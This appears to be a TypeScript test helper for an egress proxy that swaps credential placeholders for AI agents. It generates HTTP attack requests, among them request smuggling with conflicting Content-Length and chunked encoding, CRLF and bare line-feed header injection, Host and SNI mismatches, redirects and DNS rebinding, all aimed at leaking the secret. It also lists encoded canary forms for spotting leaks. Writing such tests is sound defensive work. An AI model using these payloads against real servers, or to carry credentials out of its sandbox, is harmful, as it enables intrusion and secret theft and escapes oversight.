import type { EgressGrant } from '#lib/contracts';

/** What an agent has to work with. */
export interface Target {
  /** The host with a grant, and one that the agent may reach without. */
  api: string;
  other: string;
  /** Of this agent, of another agent, and of one whose grant was revoked. */
  placeholder: string;
  foreign: string;
  revoked: string;
  /** Of this agent, for another host. */
  elsewhere: string;
}

/** One attempt: bytes over TLS to `connectTo`, with the name `servername`. */
export interface Attack {
  name: string;
  connectTo: string;
  servername?: string;
  request: string;
  /** Whether the secret may arrive at its own host: it must not come back. */
  mayArrive?: boolean;
  /** Not over TLS: sent to the proxy as it is. */
  isPlain?: boolean;
}

const flip = (text: string) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter));
const encodeAll = (text: string) => [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');

/** Every way that we know of to make a placeholder, or what it stands for, go where it should not. */
export function attacks(target: Target): Attack[] {
  const { api, other, placeholder, foreign, revoked, elsewhere } = target;
  const [apiName = ''] = api.split(':');
  const [otherName = ''] = other.split(':');
  const get = (path: string, lines: string[] = [], host = api) =>
    `${[`GET ${path} HTTP/1.1`, `Host: ${host}`, 'Connection: close', ...lines].join('\r\n')}\r\n\r\n`;
  const post = (path: string, body: string, lines: string[] = []) =>
    `${[`POST ${path} HTTP/1.1`, `Host: ${api}`, 'Connection: close', ...lines].join('\r\n')}\r\n\r\n${body}`;
  const auth = (value: string) => `Authorization: Bearer ${value}`;
  const basic = (value: string) => `Authorization: Basic ${btoa(`u:${value}`)}`;
  const tls = (name: string, request: string, more: Partial<Attack> = {}): Attack => ({
    name,
    connectTo: api,
    request,
    ...more,
  });

  const forms = ['', 'base64', 'shifted', 'percent', 'hex', 'json'];
  const encodings = ['', 'gzip', 'br', 'deflate', 'zstd'];
  const types = [
    'application/json',
    'text/plain',
    'text/html',
    'application/octet-stream',
    'image/png',
    'application/x-www-form-urlencoded',
    'text/event-stream',
  ];
  const carriers = [auth(placeholder), basic(placeholder), `X-Key: ${placeholder}`, `Cookie: k=${placeholder}`];

  const echoes = forms.flatMap((form) =>
    encodings.flatMap((as) =>
      types.flatMap((type) =>
        (form === '' ? carriers : carriers.slice(0, 1)).map((carrier, at) => {
          const query = new URLSearchParams({ type, ...(form ? { form } : {}), ...(as ? { as } : {}) });
          return tls(`echo ${form} ${as} ${type} ${at}`, get(`/?${query}`, [carrier]), { mayArrive: true });
        }),
      ),
    ),
  );
  // What is answered to a request for a WebSocket, too.
  const upgrades = encodings.flatMap((as) =>
    ['text/plain', 'application/octet-stream'].map((type) => {
      const query = new URLSearchParams({ type, ...(as ? { as } : {}) });
      const lines = ['Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='];
      const request = get(`/?${query}`, [...lines, auth(placeholder)]).replace('close', 'Upgrade');
      return tls(`echo to an upgrade ${as} ${type}`, request, { mayArrive: true });
    }),
  );
  const pieces = types.map((type) =>
    tls(`echo in pieces ${type}`, get(`/?pieces&type=${type}`, [auth(placeholder)]), { mayArrive: true }),
  );
  const redirects = [other, `${otherName}:80`, '127.0.0.2'].map((to) =>
    tls(`redirect to ${to}`, get(`/?to=https://${to}/`, [auth(placeholder)]), { mayArrive: true }),
  );

  const wrongOnes = [
    foreign,
    revoked,
    elsewhere,
    flip(placeholder),
    placeholder.toUpperCase(),
    placeholder.slice(0, -1),
    `${placeholder}x`,
  ];
  const places = (value: string): [string, string][] => [
    ['bearer', get('/', [auth(value)])],
    ['basic', get('/', [basic(value)])],
    ['header', get('/', [`X-Anything: ${value}`])],
    ['percent-encoded header', get('/', [`X-Anything: ${encodeAll(value)}`])],
    ['name of a header', get('/', [`${value}: 1`])],
    ['cookie', get('/', [`Cookie: a=b; k=${value}`])],
    ['path', get(`/${value}`)],
    ['percent-encoded path', get(`/${encodeAll(value)}`)],
    ['twice encoded path', get(`/${encodeURIComponent(encodeAll(value))}`)],
    ['query', get(`/?k=${value}`)],
    ['percent-encoded query', get(`/?k=${encodeAll(value)}`)],
  ];
  const misplaced = wrongOnes.flatMap((value, at) =>
    places(value).map(([name, request]) => tls(`wrong placeholder ${at} in ${name}`, request)),
  );
  const own = places(placeholder)
    .filter(([name]) => /path|query|name/.test(name))
    .map(([name, request]) => tls(`own placeholder in ${name}`, request));
  const bodies = [placeholder, foreign, revoked, elsewhere].flatMap((value, at) => {
    const body = JSON.stringify({ value });
    const chunks = (size: number) =>
      `${(body.match(new RegExp(`.{1,${size}}`, 'g')) ?? []).map((part) => `${part.length.toString(16)}\r\n${part}\r\n`).join('')}0\r\n\r\n`;
    return [
      tls(`body ${at}`, post('/', body, [`Content-Length: ${body.length}`])),
      ...[1, 5, 20].map((size) =>
        tls(`body ${at} in chunks of ${size}`, post('/', chunks(size), ['Transfer-Encoding: chunked'])),
      ),
      tls(
        `body ${at} with extensions of chunks`,
        post('/', chunks(9).replace('\r\n', ';x=y\r\n'), ['Transfer-Encoding: chunked']),
      ),
    ];
  });

  const carried = auth(placeholder);
  const smuggled = [
    ['two hosts', get('/', [`Host: ${other}`, carried])],
    ['another host', get('/', [carried], other)],
    ['no host', `GET / HTTP/1.1\r\nConnection: close\r\n${carried}\r\n\r\n`],
    ['absolute form of another host', get(`https://${other}/`, [carried])],
    ['absolute form', get(`https://${api}/`, [carried])],
    ['authority form', get(other, [carried])],
    ['another host after @', get(`/`, [carried], `${api}@${other}`)],
    [
      'length and chunks',
      post('/', '0\r\n\r\nGET /x HTTP/1.1\r\n', ['Content-Length: 5', 'Transfer-Encoding: chunked', carried]),
    ],
    ['two lengths', post('/', 'abcde', ['Content-Length: 5', 'Content-Length: 4', carried])],
    ['chunked twice', post('/', '0\r\n\r\n', ['Transfer-Encoding: chunked, chunked', carried])],
    ['chunked in odd letters', post('/', '0\r\n\r\n', ['Transfer-Encoding: \x0bchunked', carried])],
    ['a space before the colon', get('/', [`Authorization : Bearer ${placeholder}`])],
    ['a folded header', get('/', [`X-A: 1\r\n ${placeholder}`])],
    ['a bare line feed', `GET / HTTP/1.1\nHost: ${api}\n${carried}\nX: \r\nHost: ${other}\n\n`],
    ['a bare carriage return', get('/', [`X-A: 1\rHost: ${other}`, carried])],
    ['a zero byte', get('/', [`X-A: \0${placeholder}`])],
    ['a line break in the path', get(`/%0d%0aHost:%20${other}`, [carried, `Host: ${other}`])],
    ['a host that Connection names', get('/', ['Connection: host', carried])],
    ['an authorization that Connection names', get('/', ['Connection: authorization', carried])],
    ['HTTP/1.0', `GET / HTTP/1.0\r\n${carried}\r\n\r\n`],
    ['HTTP/0.9', `GET /${placeholder}\r\n\r\n`],
    ['CONNECT inside', `CONNECT ${other} HTTP/1.1\r\nHost: ${other}\r\n${carried}\r\n\r\n`],
    ['TRACE', `TRACE / HTTP/1.1\r\nHost: ${api}\r\n${carried}\r\n\r\n`],
    ['another protocol', get('/', ['Upgrade: h2c', 'Connection: upgrade', carried])],
    ['a forwarded host', get('/', [`X-Forwarded-Host: ${other}`, carried], other)],
  ].map(([name = '', request = '']) => tls(name, request));

  const names = [other, `localhost:${api.split(':')[1]}`, `${apiName}.:1`].map((to) =>
    tls(`SNI ${to}`, get('/', [carried]), { servername: to.replace(/:\d+$/, '') }),
  );
  const plain = [placeholder, foreign].flatMap((value) =>
    [api, other].flatMap((to) =>
      places(value).map(([name, request]) => ({
        ...tls(
          `plain HTTP to ${to === api ? 'its' : 'another'} host, ${name}`,
          request.replace(' /', ` http://${to}/`).replace(`Host: ${api}`, `Host: ${to}`),
        ),
        isPlain: true,
      })),
    ),
  );
  const addresses = [
    `rebinding.${apiName.split('.').slice(1).join('.')}`,
    `mixed.${apiName.split('.').slice(1).join('.')}`,
  ].flatMap((name) =>
    [1, 2].map((round) =>
      tls(`${name}, time ${round}`, get('/', [carried], `${name}:${api.split(':')[1]}`), {
        connectTo: `${name}:${api.split(':')[1]}`,
      }),
    ),
  );
  return [
    ...echoes,
    ...upgrades,
    ...pieces,
    ...redirects,
    ...misplaced,
    ...own,
    ...bodies,
    ...smuggled,
    ...names,
    ...plain,
    ...addresses,
  ];
}

/** All texts that would be a leak. */
export function canariesOf(grants: EgressGrant[]): string[] {
  const values = grants.flatMap(({ credential }) => (credential.kind === 'bearer' ? [credential.token] : []));
  return values.flatMap((value) => [
    value,
    Buffer.from(value).toString('base64').slice(0, -2),
    Buffer.from(`.${value}`).toString('base64url').slice(2, -4),
    Buffer.from(value).toString('hex'),
  ]);
}
